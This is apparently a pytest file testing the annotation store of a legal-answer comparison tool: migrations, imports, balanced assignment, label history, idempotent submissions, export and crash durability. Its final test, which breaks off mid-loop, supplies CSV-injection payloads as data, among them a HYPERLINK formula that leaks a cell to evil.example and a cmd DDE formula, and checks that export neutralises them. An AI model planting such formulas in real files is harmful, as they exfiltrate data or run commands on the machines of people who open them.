"""The annotation store (eval_ui/store/) and comparison item files (eval_ui/items.py).

Schema and migrations, all-or-nothing imports, balanced reproducible assignment, serving order,
labels with edits and history, idempotent submissions, un-swapping, validation, tables for the
statistics tab, export (no CSV cell starts a spreadsheet formula), durability: labels acknowledged by
a process killed with SIGKILL are all on disk, and threads that come and go leave no connections open.
"""

from __future__ import annotations

import csv
import json
import os
import signal
import sqlite3
import subprocess
import sys
import textwrap
import threading
from collections import Counter
from pathlib import Path

import pytest

from eval_ui.items import Item, items_from_answers, read_items
from eval_ui.store import (
    FRAME_COLUMNS,
    MIGRATIONS,
    AnnotationStore,
    AnswerLabel,
    LabelInput,
    SchemaError,
    StoreError,
    shown_verdict,
    start_sync,
    unswap_verdict,
)
from lawluo.jsonl import JSONLError

ROOT = Path(__file__).resolve().parents[1]
STATUTE = "《民法典》第1079条"


def make_items(n: int, prefix: str = "q") -> list[Item]:
    return [
        Item(f"{prefix}{i}", f"问题{i}", f"甲的回答{i}", f"乙的回答{i}", "sysA", "sysB", statutes=(STATUTE,))
        for i in range(n)
    ]


@pytest.fixture
def store(tmp_path):
    s = AnnotationStore(tmp_path / "annotations.sqlite")
    yield s
    s.close()


@pytest.fixture
def filled(store):
    """20 items, annotators 张/李/王 and admin 管理员, every item assigned to 2 annotators."""
    return fill(store)


def fill(store: AnnotationStore) -> AnnotationStore:
    store.import_items(make_items(20))
    for name in ("张", "李", "王"):
        store.add_annotator(name)
    store.add_annotator("管理员", role="admin")
    store.assign(overlap=2, seed=0)
    return store


def assignments(store: AnnotationStore) -> list[tuple]:
    return [
        tuple(r)
        for r in store._all("SELECT annotator, item_id, position, swapped FROM assignments ORDER BY 1, 2")
    ]


def count(store: AnnotationStore, table: str) -> int:
    return store._one(f"SELECT COUNT(*) FROM {table}")[0]


# -- schema and migrations -----------------------------------------------------------------------


def test_schema_is_created_in_wal_mode_with_full_sync(store):
    tables = {r[0] for r in store._all("SELECT name FROM sqlite_master WHERE type = 'table'")}
    assert {"items", "annotators", "assignments", "labels", "label_history", "submissions"} <= tables
    assert store.schema_version() == len(MIGRATIONS) == 4
    assert {"adjudications", "adjudication_history"} <= tables
    with store._connection() as con:
        assert con.execute("PRAGMA journal_mode").fetchone()[0] == "wal"
        assert con.execute("PRAGMA synchronous").fetchone()[0] == 2  # FULL
        assert con.execute("PRAGMA busy_timeout").fetchone()[0] >= 30_000


def test_a_version_1_file_is_upgraded_by_an_appended_migration(tmp_path):
    path = tmp_path / "a.sqlite"
    with AnnotationStore(path) as s:
        s.import_items(make_items(3))

    def add_flag(con: sqlite3.Connection) -> None:
        con.execute("ALTER TABLE items ADD COLUMN flagged INTEGER NOT NULL DEFAULT 0")

    with AnnotationStore(path, migrations=(*MIGRATIONS, add_flag)) as s:
        assert s.schema_version() == len(MIGRATIONS) + 1
        assert s.item_count() == 3
        assert [r[0] for r in s._all("SELECT flagged FROM items")] == [0, 0, 0]
    with AnnotationStore(path, migrations=(*MIGRATIONS, add_flag)) as s:  # applied once only
        assert s.schema_version() == len(MIGRATIONS) + 1
    with pytest.raises(SchemaError, match=f"schema version {len(MIGRATIONS) + 1} was written by a newer"):
        AnnotationStore(path)


def test_a_failing_migration_changes_nothing(tmp_path):
    path = tmp_path / "a.sqlite"
    AnnotationStore(path).close()

    def broken(con: sqlite3.Connection) -> None:
        con.execute("CREATE TABLE half_done (x)")
        raise RuntimeError("boom")

    with pytest.raises(RuntimeError, match="boom"):
        AnnotationStore(path, migrations=(*MIGRATIONS, broken))
    with AnnotationStore(path) as s:
        assert s.schema_version() == len(MIGRATIONS)
        assert s._one("SELECT name FROM sqlite_master WHERE name = 'half_done'") is None


def test_a_file_that_is_not_a_database_is_refused(tmp_path):
    path = tmp_path / "notes.sqlite"
    path.write_text("这不是数据库" * 200, encoding="utf-8")
    with pytest.raises(SchemaError, match="cannot be opened as an annotation store"):
        AnnotationStore(path)


# -- item files and imports -----------------------------------------------------------------------


def write_jsonl(path: Path, rows: list) -> Path:
    path.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows), encoding="utf-8")
    return path


def item_row(i: int, **changes) -> dict:
    row = {
        "id": f"q{i}",
        "question": "离婚时财产如何分割？",
        "answer_a": f"回答甲{i}",
        "answer_b": f"回答乙{i}",
        "system_a": "lawluo",
        "system_b": "gpt-4",
        "statutes": [STATUTE],
    }
    return {**row, **changes}


def test_read_items_from_jsonl_and_csv(tmp_path):
    items = read_items(write_jsonl(tmp_path / "items.jsonl", [item_row(1), item_row(2, id=7)]))
    assert [i.id for i in items] == ["q1", "7"]
    assert items[0].statutes == (STATUTE,) and items[0].source == "items.jsonl"

    csv_path = tmp_path / "items.csv"
    csv_path.write_text(
        "id,question,answer_a,answer_b,system_a,system_b,statutes\n"
        'c1,问题,"第一行\n第二行",乙,s1,s2,"[""《民法典》第1079条""]"\n'
        "c2,问题,甲,乙,s1,s2,《民法典》第1079条; 《民法典》第1087条\n"
        "c3,问题,甲,乙,s1,s2,\n",
        encoding="utf-8",
    )
    items = read_items(csv_path)
    assert items[0].answer_a == "第一行\n第二行"
    assert items[0].statutes == (STATUTE,)
    assert items[1].statutes == (STATUTE, "《民法典》第1087条")
    assert items[2].statutes == ()


def test_read_items_names_every_bad_line_and_returns_nothing(tmp_path, store):
    path = write_jsonl(
        tmp_path / "items.jsonl",
        [
            item_row(1),
            {k: v for k, v in item_row(2).items() if k != "answer_b"},  # line 2: missing field
            item_row(3, question=5),  # line 3: wrong type
            item_row(1),  # line 4: duplicate id
            item_row(5, answer_a="长" * 20_001),  # line 5: too long
            item_row(6, answer_b="回答甲6"),  # line 6: identical answers
            item_row(7),
        ],
    )
    with pytest.raises(JSONLError) as err:
        read_items(path)
    message = str(err.value)
    assert "5 bad line(s)" in message
    assert f"{path}:2: missing 'answer_b'" in message
    assert f'{path}:3: "question" must be a string' in message
    assert f"{path}:4: id 'q1' already used on line 1" in message
    assert f'{path}:5: "answer_a" has 20,001 characters' in message
    assert f"{path}:6:" in message and "same text" in message
    assert f"{path}:1:" not in message and f"{path}:7:" not in message
    assert store.item_count() == 0

    bad_csv = tmp_path / "items.csv"
    bad_csv.write_text(
        "id,question,answer_a,answer_b,system_a,system_b\nc1,问,甲,乙,s1,s2\nc2,问,,乙,s1,s2\n"
    )
    with pytest.raises(JSONLError, match=r"items.csv:3: missing 'answer_a'"):
        read_items(bad_csv)
    bad_csv.write_text("id,question,answer_a\nc1,问,甲\n")
    with pytest.raises(JSONLError, match="lacks column"):
        read_items(bad_csv)


def test_import_is_all_or_nothing(store):
    assert store.import_items(make_items(5)) == 5
    with pytest.raises(StoreError, match=r"nothing imported: 1 item id\(s\) already in the store: 'q3'"):
        store.import_items(make_items(2, prefix="new") + [make_items(4)[3]])
    with pytest.raises(StoreError, match="'x0' appears twice"):
        store.import_items(make_items(1, prefix="x") * 2)
    bad = Item("bad", "问", "同一个回答", "同一个回答", "s1", "s2")
    with pytest.raises(StoreError, match="'bad'.*same text"):
        store.import_items([*make_items(3, prefix="y"), bad])
    assert store.item_count() == 5
    assert store.item("new0") is None and store.item("q3").statutes == (STATUTE,)


def test_items_from_answers_samples_questions_both_systems_answered(tmp_path):
    refs = write_jsonl(
        tmp_path / "refs.jsonl",
        [{"id": i, "question": f"问题{i}", "reference": "参考", "statutes": [STATUTE]} for i in range(10)],
    )
    rows = [{"id": i, "system": "lawluo", "answer": f"律罗{i}"} for i in range(10)]
    rows += [{"id": i, "system": "gpt-4", "answer": f"GPT{i}"} for i in range(8)]
    rows += [{"id": 0, "system": "same", "answer": "律罗0"}]
    answers = write_jsonl(tmp_path / "answers.jsonl", rows)

    items = items_from_answers(answers, refs, "lawluo", "gpt-4", n=5, seed=1)
    assert len(items) == 5 and len({i.id for i in items}) == 5
    assert items == items_from_answers(answers, refs, "lawluo", "gpt-4", n=5, seed=1)
    assert items != items_from_answers(answers, refs, "lawluo", "gpt-4", n=5, seed=2)
    qid = items[0].id.split(":")[0]
    assert items[0].id == f"{qid}:lawluo:gpt-4" and int(qid) < 8
    assert (items[0].answer_a, items[0].answer_b) == (f"律罗{qid}", f"GPT{qid}")
    assert items[0].question == f"问题{qid}" and items[0].statutes == (STATUTE,)

    with pytest.raises(ValueError, match="only 8 questions"):
        items_from_answers(answers, refs, "lawluo", "gpt-4", n=9, seed=1)
    with pytest.raises(ValueError, match="'claude' not in .*systems there: lawluo, gpt-4, same"):
        items_from_answers(answers, refs, "lawluo", "claude", n=1, seed=1)
    with pytest.raises(ValueError, match="only 0 questions.*1 more left out"):
        items_from_answers(answers, refs, "lawluo", "same", n=1, seed=1)


# -- annotators and assignment --------------------------------------------------------------------


def test_annotators_are_idempotent_and_never_demoted(store):
    assert store.add_annotator("张") == "annotator"
    assert store.add_annotator("张") == "annotator"
    assert store.add_annotator("管理员", role="admin") == "admin"
    assert store.add_annotator("管理员") == "admin"  # signing in again does not demote
    assert [(a["name"], a["role"]) for a in store.annotators()] == [("张", "annotator"), ("管理员", "admin")]
    assert store.role("张") == "annotator" and store.role("nobody") is None
    store.set_role("张", "admin")
    store.check_admin("张")
    with pytest.raises(StoreError, match="not an admin"):
        store.check_admin("nobody")
    with pytest.raises(StoreError, match="role 'boss'"):
        store.add_annotator("李", role="boss")


def test_assignment_overlap_balance_and_reproducibility(tmp_path):
    names = [f"律师{i}" for i in range(7)]

    def build(path: Path, seed: int) -> AnnotationStore:
        s = AnnotationStore(path)
        s.import_items(make_items(61))
        for n in names:
            s.add_annotator(n)
        s.add_annotator("管理员", role="admin")
        assert s.assign(overlap=3, seed=seed) == 61 * 3
        return s

    s = build(tmp_path / "a.sqlite", seed=0)
    rows = assignments(s)
    per_item = Counter(item for _, item, _, _ in rows)
    assert set(per_item.values()) == {3} and len(per_item) == 61
    assert len(set((a, i) for a, i, _, _ in rows)) == len(rows)
    loads = Counter(a for a, _, _, _ in rows)
    assert set(loads) == set(names)  # admins are not in the default pool
    assert max(loads.values()) - min(loads.values()) <= 1
    swapped = sum(r[3] for r in rows) / len(rows)
    assert 0.35 < swapped < 0.65

    same = build(tmp_path / "b.sqlite", seed=0)
    other = build(tmp_path / "c.sqlite", seed=1)
    assert assignments(same) == rows
    assert assignments(other) != rows
    assert [r[3] for r in assignments(other)] != [r[3] for r in rows]
    for x in (same, other):
        x.close()

    assert s.assign(overlap=3, seed=0) == 0  # already topped up
    s.close()
    with AnnotationStore(tmp_path / "a.sqlite") as reopened:
        assert assignments(reopened) == rows


def test_assignment_tops_up_without_removing(store):
    store.import_items(make_items(10))
    for n in ("张", "李"):
        store.add_annotator(n)
    assert store.assign(overlap=1, seed=3) == 10
    before = set(assignments(store))
    store.import_items(make_items(4, prefix="new"))
    store.add_annotator("王")
    assert store.assign(overlap=2, seed=3) == 14 + 4  # 10 old items +1 each, 4 new items 2 each
    after = set(assignments(store))
    assert before <= after
    per_item = Counter(i for _, i, _, _ in after)
    assert set(per_item.values()) == {2}
    loads = Counter(a for a, _, _, _ in after)
    assert max(loads.values()) - min(loads.values()) <= 1
    with pytest.raises(StoreError, match="overlap 4 needs at least 4 annotators; there are 3"):
        store.assign(overlap=4)
    with pytest.raises(StoreError, match="unknown annotator"):
        store.assign(overlap=1, annotators=["nobody"])


# -- serving order --------------------------------------------------------------------------------


def test_next_item_resumes_skips_and_never_reserves_done(tmp_path):
    # balanced: the annotator's own random order (overlap first: tests/test_annotation_assignment.py)
    filled = fill(AnnotationStore(tmp_path / "annotations.sqlite", assignment="balanced"))
    name = "张"
    own = [r for r in assignments(filled) if r[0] == name]
    order = [i for _, i, _, _ in sorted(own, key=lambda r: (r[2], r[1]))]
    assert filled.next_item(name).item.id == order[0]
    assert filled.next_item(name).item.id == order[0]  # nothing changes until it is labelled or skipped

    filled.save_label(name, order[0], LabelInput("tie"), "s0")
    filled.skip(name, order[2])
    filled.skip(name, order[1])
    assert filled.next_item(name).item.id == order[3]
    filled.close()
    with AnnotationStore(filled.path, assignment="balanced") as s:  # a restart resumes where they left off
        assert s.next_item(name).item.id == order[3]
        for k, item_id in enumerate(order[3:]):
            assert s.next_item(name).item.id == item_id
            s.save_label(name, item_id, LabelInput("left"), f"t{k}")
        skipped = s.next_item(name)  # only skipped ones are left: the least recently skipped first
        assert skipped.item.id == order[2] and skipped.status == "skipped"
        s.skip(name, order[2])
        assert s.next_item(name).item.id == order[1]
        s.skip(name, order[1])
        assert s.next_item(name).item.id == order[2]
        s.save_label(name, order[2], LabelInput("right"), "second-last")
        assert s.next_item(name).item.id == order[1]
        s.save_label(name, order[1], LabelInput("right"), "last")
        assert s.next_item(name) is None
        s.skip(name, order[0])  # skipping a done item does not bring it back
        assert s.next_item(name) is None
        assert s.progress(name) == (len(order), len(order))
        assert set(s.done_items(name)) == set(order) and s.done_items(name)[0] == order[0]
        with pytest.raises(StoreError, match="not assigned"):
            s.skip(name, "no-such-item")


# -- labels ---------------------------------------------------------------------------------------


def test_save_edit_and_history(filled):
    name = "李"
    item_id = filled.next_item(name).item.id
    first = filled.save_label(
        name,
        item_id,
        LabelInput(
            "tie", AnswerLabel({STATUTE: "wrong"}, rel=7, tlc=6.5), comment="初评", seconds_spent=30.5
        ),
        "s1",
    )
    assert (first.version, first.changed, first.duplicate) == (1, True, False)
    assert filled.history(name, item_id) == []

    second = filled.save_label(name, item_id, LabelInput("both_bad", comment="复核"), "s2")
    assert (second.version, second.changed) == (2, True)
    current = filled.label(name, item_id)
    assert (
        current["verdict"] == "both_bad" and current["comment"] == "复核" and current["submission_id"] == "s2"
    )
    [old] = filled.history(name, item_id)
    assert old["verdict"] == "tie" and old["version"] == 1 and old["submission_id"] == "s1"
    assert old["replaced_at"] >= old["updated_at"] and current["created_at"] == old["created_at"]
    assert old["seconds_spent"] == 30.5

    unchanged = filled.save_label(name, item_id, LabelInput("both_bad", comment="复核"), "s3")
    assert (unchanged.version, unchanged.changed, unchanged.duplicate) == (2, False, False)
    assert len(filled.history(name, item_id)) == 1
    assert filled.submission("s3")["version"] == 2

    third = filled.save_label(name, item_id, LabelInput("tie"), "s4")
    assert third.version == 3
    assert [h["version"] for h in filled.history(name, item_id)] == [1, 2]
    assert count(filled, "labels") == 1


def test_double_submit_is_idempotent(filled):
    name = "王"
    item_id = filled.next_item(name).item.id
    label = LabelInput("left", AnswerLabel({STATUTE: "correct"}, rel=9))
    first = filled.save_label(name, item_id, label, "dup")
    again = filled.save_label(name, item_id, label, "dup")
    assert again.duplicate and not again.changed
    assert (again.version, again.verdict, again.submission_id) == (first.version, first.verdict, "dup")
    assert (
        count(filled, "labels") == 1
        and count(filled, "label_history") == 0
        and count(filled, "submissions") == 1
    )

    filled.save_label(name, item_id, LabelInput("tie"), "edit")
    late = filled.save_label(name, item_id, label, "dup")  # a late retry does not undo the edit
    assert late.duplicate and late.version == 1
    assert filled.label(name, item_id)["verdict"] == "tie"
    assert count(filled, "label_history") == 1

    with pytest.raises(StoreError, match="already saved with a different label"):
        filled.save_label(name, item_id, LabelInput("right"), "dup")
    other = next(i for i in filled.done_items(name) + [filled.next_item(name).item.id] if i != item_id)
    with pytest.raises(StoreError, match="already used for another label"):
        filled.save_label(name, other, label, "dup")


def test_concurrent_double_submits_from_threads_store_one_label(filled):
    name = "张"
    item_id = filled.next_item(name).item.id
    results = []
    barrier = threading.Barrier(8)

    def submit() -> None:
        barrier.wait()
        results.append(filled.save_label(name, item_id, LabelInput("right"), "same-click"))

    threads = [threading.Thread(target=submit) for _ in range(8)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert len(results) == 8 and sum(not r.duplicate for r in results) == 1
    assert count(filled, "labels") == 1 and count(filled, "submissions") == 1


def test_verdicts_and_answer_labels_are_stored_unswapped(filled):
    rows = assignments(filled)
    annotator, item_id, _, _ = next(r for r in rows if r[3] == 1)
    shown = filled.assignment(annotator, item_id)
    item = filled.item(item_id)
    assert shown.swapped and shown.shown_order == "BA"
    assert (shown.left, shown.right) == (item.answer_b, item.answer_a)

    saved = filled.save_label(
        annotator,
        item_id,
        LabelInput("left", left=AnswerLabel({STATUTE: "wrong_content"}, rel=2), right=AnswerLabel(rel=9)),
        "x",
    )
    assert saved.verdict == "B"  # B was on the left
    stored = filled.label(annotator, item_id)
    assert stored["verdict"] == "B" and stored["shown_order"] == "BA" and stored["verdict_shown"] == "left"
    assert stored["answer_labels"]["b"] == {
        "statutes": {STATUTE: "wrong_content"},
        "rel": 2,
        "tlc": None,
        "none_wrong": False,
    }
    assert stored["answer_labels"]["format"] == 2
    assert stored["answer_labels"]["a"]["rel"] == 9
    row = filled.labels_frame().iloc[0]
    assert (row["winner"], row["rel_b"], row["rel_a"], row["nhsr_b"]) == ("sysB", 2.0, 9.0, 0.0)

    annotator, item_id, _, _ = next(r for r in rows if r[3] == 0)
    assert filled.save_label(annotator, item_id, LabelInput("left"), "y").verdict == "A"
    assert filled.label(annotator, item_id)["shown_order"] == "AB"

    assert [unswap_verdict(v, True) for v in ("left", "right", "tie", "both_bad")] == [
        "B",
        "A",
        "tie",
        "both_bad",
    ]
    assert [unswap_verdict(v, False) for v in ("left", "right")] == ["A", "B"]
    for swapped in (True, False):
        for v in ("left", "right", "tie", "both_bad"):
            assert shown_verdict(unswap_verdict(v, swapped), swapped) == v
    assert shown.unswap("right") == "A" and shown.to_shown("A") == "right"


def test_invalid_labels_are_refused_and_nothing_is_saved(filled):
    name = "张"
    item_id = filled.next_item(name).item.id
    not_mine = next(
        i
        for a, i, _, _ in assignments(filled)
        if a == "李" and (name, i) not in {r[:2] for r in assignments(filled)}
    )
    cases = [
        (LabelInput("C"), "verdict 'C' is not one of left, right, tie, both_bad"),
        (LabelInput("A"), "verdict 'A' is not one of"),  # stored verdicts are not accepted as shown ones
        (
            LabelInput("tie", left=AnswerLabel(rel=11)),
            "左侧回答 left answer: Rel 须为 0–10 的数字或留空 must be a number from 0 to 10",
        ),
        (LabelInput("tie", right=AnswerLabel(tlc=-1)), "右侧回答 right answer: T_LC .*must be a number"),
        (LabelInput("tie", left=AnswerLabel(rel=True)), "Rel .*must be a number"),
        (
            LabelInput("tie", left=AnswerLabel({STATUTE: "yes"})),
            f"左侧回答 left answer: 法条 {STATUTE} 的标注 'yes' 不是 真实/有误 之一",
        ),
        (LabelInput("tie", right=AnswerLabel({STATUTE: True})), "右侧回答 right answer: .*旧版.*old tick"),
        (
            LabelInput("tie", right=AnswerLabel({STATUTE: "wrong"}, none_wrong=True)),
            "右侧回答 right answer: 已确认“这些都没问题”，但法条",
        ),
        (LabelInput("tie", left=AnswerLabel({STATUTE: "legacy_unticked"})), "不是 真实/有误 之一"),
        (LabelInput("tie", comment="长" * 5_001), "备注 comment: .*must be text"),
        (LabelInput("tie", seconds_spent=-3), "seconds_spent"),
    ]
    for label, message in cases:
        with pytest.raises(StoreError, match=message):
            filled.save_label(name, item_id, label, "sid")
    with pytest.raises(StoreError, match="submission_id"):
        filled.save_label(name, item_id, LabelInput("tie"), "")
    with pytest.raises(StoreError, match=f"item '{not_mine}' is not assigned to '张'"):
        filled.save_label(name, not_mine, LabelInput("tie"), "sid")
    with pytest.raises(StoreError, match="no item 'nope'"):
        filled.save_label(name, "nope", LabelInput("tie"), "sid")
    with pytest.raises(StoreError, match="not assigned"):
        filled.save_label("stranger", item_id, LabelInput("tie"), "sid")
    assert count(filled, "labels") == 0 and count(filled, "submissions") == 0
    assert filled.progress(name)[0] == 0

    saved = filled.save_label("管理员", not_mine, LabelInput("left"), "admin-1")  # admins may label anything
    assert saved.verdict == "A" and filled.assignment("管理员", not_mine).status == "unassigned"
    assert filled.done_items("管理员") == [not_mine]
    assert filled.label("李", not_mine) is None  # nobody else's label is returned for 李


def test_none_wrong_records_the_unlabelled_cited_statutes_as_correct(tmp_path):
    other = "《民法典》第1087条"
    cited = {"a": [STATUTE, other], "b": [STATUTE]}
    s = fill(AnnotationStore(tmp_path / "a.sqlite", cited=lambda item_id, side: cited[side]))
    annotator, item_id, _, swapped = assignments(s)[0]
    mine = AnswerLabel({other: "wrong_content"}, rel=3)
    confirmed = AnswerLabel(none_wrong=True)
    left, right = (confirmed, mine) if swapped else (mine, confirmed)  # a: mine, b: confirmed
    s.save_label(annotator, item_id, LabelInput("left", left, right), "nw")
    stored = s.label(annotator, item_id)["answer_labels"]
    assert stored["a"]["statutes"] == {other: "wrong_content"} and not stored["a"]["none_wrong"]
    assert stored["b"]["statutes"] == {STATUTE: "correct"} and stored["b"]["none_wrong"]
    row = s.labels_frame().iloc[0]
    # a: one statute labelled wrong, one cited and unlabelled (missing data, not "correct")
    assert (row["n_labelled_a"], row["n_unlabelled_a"], row["nhsr_a"]) == (1, 1, 0.0)
    assert (row["n_labelled_b"], row["n_unlabelled_b"], row["nhsr_b"], row["none_wrong_b"]) == (
        1,
        0,
        1.0,
        True,
    )
    statutes = s.statute_labels_frame()
    assert len(statutes) == 3 and statutes["label"].isna().sum() == 1
    assert s.save_label(annotator, item_id, LabelInput("left", left, right), "nw").duplicate  # idempotent
    # without the cited statutes (no checker) only labelled statutes are known
    assert len(s.statute_labels_frame(cited=lambda i, side: [])) == 2
    s.close()
    with AnnotationStore(tmp_path / "a.sqlite") as plain:
        assert plain.labels_frame().iloc[0]["n_unlabelled_a"] == 0


# -- tables, export, backups ----------------------------------------------------------------------


def test_labels_frame_and_statute_table(filled):
    rows = assignments(filled)
    (a1, i1, _, s1), (a2, i2, _, _) = rows[0], rows[1]
    filled.save_label(
        a1,
        i1,
        LabelInput(
            "tie",
            left=AnswerLabel({STATUTE: "wrong_number", "《民法典》第1087条": "correct"}, rel=5, tlc=4),
            guideline_version="v1",
            seconds_spent=12,
        ),
        "f1",
    )
    filled.save_label(a1, i1, LabelInput("both_bad"), "f2")
    filled.save_label(a2, i2, LabelInput("right"), "f3")

    frame = filled.labels_frame()
    assert list(frame.columns) == list(FRAME_COLUMNS)
    assert len(frame) == 2 and frame["current"].all()
    row = frame[(frame.annotator == a1) & (frame.item_id == i1)].iloc[0]
    assert row["verdict"] == "both_bad" and row["version"] == 2

    full = filled.labels_frame(current_only=False)
    assert len(full) == 3 and (~full["current"]).sum() == 1
    old = full[~full["current"]].iloc[0]
    side = "b" if s1 else "a"
    assert old[f"rel_{side}"] == 5.0 and old[f"tlc_{side}"] == 4.0 and old[f"n_statutes_{side}"] == 2
    assert old[f"n_hallucinated_{side}"] == 1 and old[f"nhsr_{side}"] == 0.5
    assert old[f"n_labelled_{side}"] == 2 and old[f"n_unlabelled_{side}"] == 0 and not old["legacy"]
    assert json.loads(old[f"hallucinated_{side}"]) == [STATUTE]
    assert old["guideline_version"] == "v1" and old["seconds_spent"] == 12.0 and old["replaced_at"] > 0
    assert frame["rel_a"].dtype == float and frame["nhsr_a"].isna().all()

    statutes = filled.statute_labels_frame(current_only=False)
    assert len(statutes) == 2 and set(statutes["side"]) == {side}
    assert dict(zip(statutes["statute"], statutes["hallucinated"], strict=True)) == {
        STATUTE: True,
        "《民法典》第1087条": False,
    }
    assert dict(zip(statutes["statute"], statutes["error_kind"], strict=True)) == {
        STATUTE: "number",
        "《民法典》第1087条": None,
    }
    assert filled.statute_labels_frame().empty


def test_export_round_trip(filled, tmp_path):
    import pandas as pd

    for k, (a, i, _, _) in enumerate(assignments(filled)[:6]):
        label = LabelInput(
            ("left", "right", "tie")[k % 3],
            left=AnswerLabel({STATUTE: ("wrong", "correct")[k % 2]}, rel=k),
            comment=f"意见{k}",
        )
        filled.save_label(a, i, label, f"e{k}")
    frame = filled.labels_frame()

    assert filled.export(tmp_path / "labels.jsonl", fmt="jsonl") == 6
    back = [json.loads(line) for line in (tmp_path / "labels.jsonl").read_text(encoding="utf-8").splitlines()]
    assert [(r["annotator"], r["item_id"], r["verdict"], r["comment"]) for r in back] == list(
        frame[["annotator", "item_id", "verdict", "comment"]].itertuples(index=False, name=None)
    )
    assert [{s["statute"]: s["label"] for s in r["statutes_a"]} for r in back] == [
        json.loads(s) for s in frame["statutes_a"]
    ]

    assert filled.export(tmp_path / "labels.csv") == 6
    csv_back = pd.read_csv(tmp_path / "labels.csv", keep_default_na=False, na_values=[""])
    assert list(csv_back.columns) == list(FRAME_COLUMNS)
    for column in ("annotator", "item_id", "verdict", "winner", "comment", "submission_id"):
        assert list(csv_back[column]) == list(frame[column])
    pd.testing.assert_series_equal(csv_back["rel_a"].astype(float), frame["rel_a"], check_names=False)
    assert [p.name for p in tmp_path.iterdir() if p.suffix == ".tmp"] == []
    with pytest.raises(StoreError, match="format 'xlsx' is not one of csv, jsonl, parquet"):
        filled.export(tmp_path / "labels.xlsx", fmt="xlsx")


def test_snapshot_is_a_consistent_copy_and_sync_needs_a_repo(filled, tmp_path):
    a, i, _, _ = assignments(filled)[0]
    filled.save_label(a, i, LabelInput("tie"), "snap")
    dest = filled.snapshot(tmp_path / "backup" / "annotations.sqlite")
    with AnnotationStore(dest) as copy:
        assert copy.label(a, i)["submission_id"] == "snap"
        assert copy.item_count() == filled.item_count() == 20
    assert start_sync(tmp_path, repo_id=None) is None
    assert start_sync(tmp_path, repo_id="") is None


# -- durability -----------------------------------------------------------------------------------

CHILD = textwrap.dedent(
    """
    import sys
    from eval_ui.store import AnnotationStore, LabelInput

    store = AnnotationStore(sys.argv[1])
    item_ids = sorted(r[0] for r in store._all("SELECT id FROM items"))
    verdicts = ("left", "right", "tie", "both_bad")
    n = 0
    while True:
        shown = store.next_item("k")
        item_id = shown.item.id if shown else item_ids[n % len(item_ids)]  # then edits
        sid = f"sub-{n}"
        store.save_label("k", item_id, LabelInput(verdicts[n % 4], comment=str(n)), sid)
        print(sid, item_id, flush=True)  # acknowledged only after save_label returned
        n += 1
    """
)


def test_labels_acknowledged_before_sigkill_are_all_on_disk(tmp_path):
    path = tmp_path / "annotations.sqlite"
    with AnnotationStore(path) as s:
        s.import_items(make_items(80))
        s.add_annotator("k")
        s.assign(overlap=1)
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    acknowledged = []
    with subprocess.Popen(
        [sys.executable, "-c", CHILD, str(path)],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env=env,
        cwd=ROOT,
    ) as child:
        try:
            for line in child.stdout:
                acknowledged.append(line.split())
                if len(acknowledged) == 150:  # past the 80 first labels: the child is editing
                    break
            assert child.poll() is None, child.stderr.read()
            os.kill(child.pid, signal.SIGKILL)
            child.wait(timeout=10)
            rest = child.stdout.read()  # lines written before the kill are acknowledged too
        finally:
            if child.poll() is None:  # only when the test failed before the kill
                child.kill()
                child.wait()
    acknowledged += [line.split() for line in rest.splitlines(keepends=True) if line.endswith("\n")]
    assert child.returncode == -signal.SIGKILL
    assert len(acknowledged) >= 150

    with AnnotationStore(path) as s:
        assert s._one("PRAGMA integrity_check")[0] == "ok"
        lost = [sid for sid, _ in acknowledged if s.submission(sid) is None]
        assert lost == []
        last = {item_id: sid for sid, item_id in acknowledged}
        for item_id, sid in last.items():
            current = s.label("k", item_id)
            # the current label is the last acknowledged one, or one saved after it whose "printed"
            # line the kill cut off
            assert current["submission_id"] == sid or int(current["submission_id"][4:]) > int(sid[4:])
        assert s.progress("k") == (80, 80)


# -- connections are not kept per thread forever ----------------------------------------------------


def open_fds(path: Path) -> int:
    """How many of this process's file descriptors are open on the database file or its -wal / -shm."""
    names = {str(path), f"{path}-wal", f"{path}-shm"}
    count = 0
    for fd in os.listdir("/proc/self/fd"):
        try:
            count += os.readlink(f"/proc/self/fd/{fd}") in names
        except OSError:  # closed since the listing (the listing's own descriptor)
            pass
    return count


@pytest.mark.skipif(not Path("/proc/self/fd").is_dir(), reason="counts descriptors in /proc/self/fd (Linux)")
def test_threads_that_come_and_go_do_not_leave_connections_open(filled):
    # A server's worker threads are started for a burst of requests and retired when idle (AnyIO
    # does this); the store must not keep a connection open for every thread that ever used it.
    from eval_ui.store import POOL_SIZE

    path = filled.path
    burst = POOL_SIZE + 4  # more threads at once than connections are kept

    def annotate(name: str, barrier: threading.Barrier) -> None:
        barrier.wait()
        filled.progress(name)
        shown = filled.next_item(name)
        if shown is not None:
            filled.save_label(name, shown.item.id, LabelInput("tie"), os.urandom(8).hex())

    after_each_burst = []
    for _ in range(4):
        barrier = threading.Barrier(burst)
        threads = [
            threading.Thread(target=annotate, args=(("张", "李", "王")[k % 3], barrier)) for k in range(burst)
        ]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
        after_each_burst.append(open_fds(path))
    # The kept connections' database and -wal descriptors, the one -shm, and database descriptors of
    # closed connections that SQLite holds for reuse while other connections hold locks on the file (how
    # many of those are still pending when a burst ends depends on timing: 19 or 21 here). The bound holds
    # after every burst: a leak of the 4 connections beyond the pool would add 8 descriptors a burst.
    assert max(after_each_burst) <= POOL_SIZE + burst + 1, after_each_burst
    filled.close()
    assert open_fds(path) == 0


# -- CSV export is safe to open in a spreadsheet ------------------------------------------------------


def test_csv_export_neutralises_spreadsheet_formulas_and_jsonl_keeps_the_text(tmp_path):
    # A cell starting with = + - @, a tab or a carriage return is a formula to Excel and LibreOffice
    # (OWASP "CSV injection"): every text cell of the CSV starting so gets a leading apostrophe.
    hostile = {
        "=": '=HYPERLINK("https://evil.example/?d="&A1,"点这里")',
        "+": "+1+cmd|'/C calc'!A0",
        "-": "-2+3",
        "@": "@SUM(1+1)",
        "\t": "\t=1+1",
        "\r": "\r=1+1",
    }
    s = AnnotationStore(tmp_path / "annotations.sqlite")
    s.import_items(
        [Item("=q1", "=问题", "+甲的回答", "-乙的回答", "@sysA", "\tsysB", source="\rsrc")]
        + make_items(len(hostile) - 1, prefix="i")
    )
    s.add_annotator("=律师")
    s.assign(overlap=1)
    item_ids = ["=q1"] + [f"i{k}" for k in range(len(hostile) - 1)]
    for item_id, comment in zip(item_ids, hostile.values(), strict=True):
